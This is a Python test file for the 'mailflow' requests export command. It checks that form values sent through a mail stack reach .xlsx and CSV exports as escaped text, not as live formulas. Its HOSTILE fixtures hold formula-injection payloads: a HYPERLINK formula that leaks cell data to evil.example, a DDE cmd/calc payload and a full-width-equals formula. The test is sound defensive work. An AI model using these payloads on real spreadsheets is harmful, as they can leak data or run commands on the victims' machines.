"""`mailflow requests export`: the request list as .xlsx / CSV, end to end.

Forms are mailed through the real Dovecot and read by mailflow; the CLI then writes the list.
What people typed reaches the sheet, so a value that a spreadsheet would run as a formula
(=HYPERLINK…, DDE, @, +, -, full-width ＝) must arrive as text (issue 7, part 3).
"""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from datetime import datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from mailflow.clock import SystemClock
from mailflow.documents.definitions import FormCatalog, default_forms_dir, load_catalog
from mailflow.export_safety import FORMULA_TRIGGERS
from mailflow.service import Service
from mailflow_testing import mailbuild
from mailflow_testing.config_file import write_config
from tests.formfill import SAMPLES, fill_docx, fill_xlsx
from tests.stack import SERVICE, stack_settings

REPO = Path(__file__).resolve().parents[1]
BLANKS = default_forms_dir() / "blank"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HOSTILE = {
    "data_wanted": '=HYPERLINK("http://evil.example/?"&A1,"详情")',
    "scope_of_use": "@SUM(1+1)*cmd|' /C calc'!A0",
    "data_period": "＝1+1",
}


@pytest.fixture(scope="module")
def catalog() -> FormCatalog:
    return load_catalog(default_forms_dir())


@pytest.fixture
def config(mailstack: Any, database_url: str, tmp_path: Path, catalog: FormCatalog) -> Path:
    """Three requests taken in through the mail stack: a hostile data extraction (.docx), an
    account form (.xlsx) and a mail with no form."""
    dovecot = mailstack.dovecot
    dovecot.add_user("li.na@example.test", "pw")
    hostile = {**SAMPLES["data_extraction"], **HOSTILE}
    dovecot.append_many(SERVICE, [
        mailbuild.human_mail(
            sender="李娜 <li.na@example.test>", to=SERVICE, subject="数据提取", body="见附件",
            charset="gbk", attachments=[("数据提取申请表.docx", fill_docx(
                (BLANKS / "data_extraction.docx").read_bytes(),
                catalog.get("data_extraction"), hostile), DOCX)]),
        mailbuild.human_mail(
            sender="li.na@example.test", to=SERVICE, subject="帐号", body="见附件",
            attachments=[("系统帐号申请表.xlsx", fill_xlsx(
                (BLANKS / "account.xlsx").read_bytes(), catalog.get("account"),
                SAMPLES["account"]), XLSX)]),
        mailbuild.human_mail(sender="li.na@example.test", to=SERVICE,
                             subject="=1+1 打印机坏了", body="请修理"),
    ])
    settings = stack_settings(dovecot, mailstack.smtp, database_url, tmp_path)
    service = Service(settings, SystemClock())
    try:
        service.run_once()
    finally:
        service.close()
    return write_config(settings, tmp_path / "config.toml")


def export(config: Path, target: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "mailflow", "--config", str(config), "requests", "export",
         str(target), *(args or ["--no-progress"])],
        cwd=REPO, capture_output=True, text=True, timeout=120, check=False)


def test_xlsx_export_lists_every_request_and_runs_no_formula(
    config: Path, tmp_path: Path
) -> None:
    target = tmp_path / "requests.xlsx"
    result = export(config, target)
    assert result.returncode == 0, result.stderr[-2000:]
    assert "3 requests written" in result.stdout
    sheet = load_workbook(target).active
    assert sheet is not None
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    header, body = rows[0], rows[1:]
    assert header[:7] == ["编号", "申请类别", "状态", "申请人（发件人）", "邮箱", "收到时间",
                          "标题"]
    assert "使用范围" in header and "帐号名称" in header
    year = datetime.now(ZoneInfo("Asia/Shanghai")).year
    assert [r[0] for r in body] == [f"REQ-{year}-00000{n}" for n in (1, 2, 3)]
    assert [r[1] for r in body] == ["业务数据提取申请表", "系统帐号申请表", "一般来信（无表格）"]
    assert body[0][2] == "已受理" and body[0][3] == "李娜"
    # no cell is a formula; the hostile values are there, as text behind an apostrophe
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    cells = [str(v) for row in body for v in row if v is not None]
    for value in (*HOSTILE.values(), "=1+1 打印机坏了"):
        assert "'" + value in cells, value
    assert not any(c[:1] in FORMULA_TRIGGERS for c in cells)


def test_csv_export_opens_in_excel_and_filters_by_kind_and_period(
    config: Path, tmp_path: Path
) -> None:
    target = tmp_path / "accounts.csv"
    result = export(config, target, "--kind", "account", "--progress")
    assert result.returncode == 0, result.stderr[-2000:]
    assert "exporting" in result.stderr and "1/1 requests" in result.stderr  # long work shows
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM Excel on Chinese Windows needs
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert len(rows) == 2 and rows[1][1] == "系统帐号申请表"
    assert "帐号名称" in rows[0] and "使用范围" not in rows[0]  # only the account's fields
    assert rows[1][rows[0].index("帐号名称")] == SAMPLES["account"]["account_name"]
    # a period before anything arrived is an empty list (header only)
    empty = tmp_path / "empty.csv"
    assert export(config, empty, "--from", "2020-01-01", "--to", "2020-12-31").returncode == 0
    assert len(list(csv.reader(io.StringIO(empty.read_text("utf-8-sig"))))) == 1


@pytest.mark.parametrize(("args", "message"), [
    (["--kind", "lunch"], "unknown kind 'lunch'"),
    (["--from", "yesterday"], "not a date"),
])
def test_export_refuses_what_it_cannot_do_with_a_clear_message(
    config: Path, tmp_path: Path, args: list[str], message: str
) -> None:
    result = export(config, tmp_path / "out.xlsx", *args)
    assert result.returncode == 2
    assert message in result.stderr + result.stdout


def test_export_refuses_an_unknown_file_type(config: Path, tmp_path: Path) -> None:
    result = export(config, tmp_path / "out.pdf")
    assert result.returncode == 2
    assert "must end in .csv or .xlsx" in result.stderr
